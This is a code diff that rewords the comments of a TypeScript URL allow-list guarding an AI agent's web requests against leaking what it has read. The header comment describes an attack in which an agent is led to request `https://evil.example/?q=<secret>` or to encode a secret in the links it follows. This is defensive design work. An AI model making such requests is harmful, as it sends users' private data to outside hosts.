@@ -6,8 +6,8 @@ import { checkUrl, requestTextOf } from './web-url.ts';
  * that has read private memory request `https://evil.example/?q=<secret>`, or spell a secret by the choice of links. So
  * a URL is known only if its author does not know what the agent has read:
  *
- * - the user wrote it in the task or in an answer, exactly so, with or without the scheme;
- * - it is a result of `web_search` in this run, exactly so. The query goes only to the search engine;
+ * - the user wrote exactly this URL in the task or in an answer, with or without the scheme;
+ * - exactly this URL is a result of `web_search` in this run. The query goes only to the search engine;
  * - it is a link on a page of a host that the user named with a whole URL, and leads to the same host. The owner of
  *   that host learns which links are followed, and the user chose this host;
  * - its host is one of the run's allowed hosts. Then every URL of the host may be requested.
@@ -52,7 +52,7 @@ function namesIn(text: string): URL[] {
 }
 
 function toUrls(found: string): URL[] {
-  // // Both forms count, because a bracket or a full stop at the end may be part of the URL.
+  // Both forms count, because a bracket or a full stop at the end may be part of the URL.
   return [found, found.replace(/[\])}.,;:!?*_]+$/u, '')].flatMap((text) => {
     const checked = checkUrl(text, undefined, () => true);
     return checked.status === 'allowed' ? [checked.url] : [];
